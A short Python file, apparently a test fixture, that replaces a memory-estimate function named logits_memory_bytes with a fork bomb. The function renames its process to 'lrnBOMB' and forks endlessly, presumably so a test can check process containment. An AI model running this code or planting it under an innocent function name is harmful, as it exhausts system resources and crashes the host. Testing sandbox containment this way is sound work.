"""Forks without end. Named first (its comm, inherited by every child) so a test can tell its
processes from any other's: the test puts a name of its own in place of lrnBOMB."""

import contextlib

from reference_impl import *  # noqa: F403  (every function right; one is replaced below)


def logits_memory_bytes(batch, length, vocab, bytes_per_value=4):
    import ctypes
    import os

    ctypes.CDLL(None).prctl(15, b"lrnBOMB", 0, 0, 0)  # PR_SET_NAME
    while True:
        with contextlib.suppress(OSError):
            os.fork()
